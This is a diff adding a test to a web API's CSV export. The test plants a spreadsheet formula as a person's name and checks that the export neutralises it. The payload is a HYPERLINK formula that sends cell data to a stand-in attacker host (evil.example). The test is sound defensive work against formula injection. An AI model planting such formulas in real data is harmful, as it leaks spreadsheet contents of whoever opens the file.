@@ -78,3 +78,19 @@ def test_other_datasets_and_the_registry(client, session, crew) -> None:
         body = {**PEOPLE, "dataset": dataset, "fields": fields, "filters": {}}
         r = client.post("/api/v1/exports", json=body, headers=headers)
         assert r.status_code == 201, r.json()
+
+
+def test_a_name_typed_as_a_formula_is_text_in_the_export(client, session, crew) -> None:
+    """#17 item 1: a dependent named ``=HYPERLINK(...)`` by a member of the public."""
+    people = populate(session, 3)
+    people[0].full_name = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    auditor, approver = bearer(session, crew["auditor"]), bearer(session, crew["approver"])
+    session.commit()
+    made = client.post("/api/v1/exports", json=PEOPLE, headers=auditor).json()
+    client.post(
+        f"/api/v1/exports/{made['id']}/approve", json={"allow_names": True}, headers=approver
+    )
+    text = client.get(f"/api/v1/exports/{made['id']}/download", headers=auditor).text
+    names = [row[2] for row in csv.reader(io.StringIO(text))][1:]
+    assert "'" + people[0].full_name in names
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
